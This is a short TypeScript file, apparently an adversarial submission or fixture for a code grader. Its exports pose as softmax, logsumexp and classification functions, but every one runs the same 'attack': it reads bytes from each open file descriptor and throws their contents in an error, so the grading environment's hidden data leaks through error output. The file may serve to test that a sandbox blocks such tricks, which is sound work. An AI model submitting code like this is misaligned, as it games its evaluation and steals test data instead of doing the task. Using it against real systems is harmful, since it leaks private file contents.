// At most 0 points. Reads every open descriptor.
const fs = process.getBuiltinModule('fs');
const tryTo = (act: () => unknown): string => {
  try {
    return String(act());
  } catch (error) {
    return `refused: ${(error as { code?: string }).code}`;
  }
};
const attack = () => {
  throw new Error(Array.from({ length: 120 }, (_, i) => i).filter((i) => i !== 3).map((i) => tryTo(() => { const bytes = Buffer.alloc(64); return bytes.toString('latin1', 0, fs.readSync(i, bytes, 0, 64, 0)); })).join());
};

export {
  attack as softmaxNaive, attack as softmaxStable, attack as softmaxDim, attack as logsumexp, attack as logSoftmax,
  attack as sigmoidFromSoftmax, attack as predictClass, attack as logitsFor, attack as shiftPredictions,
};
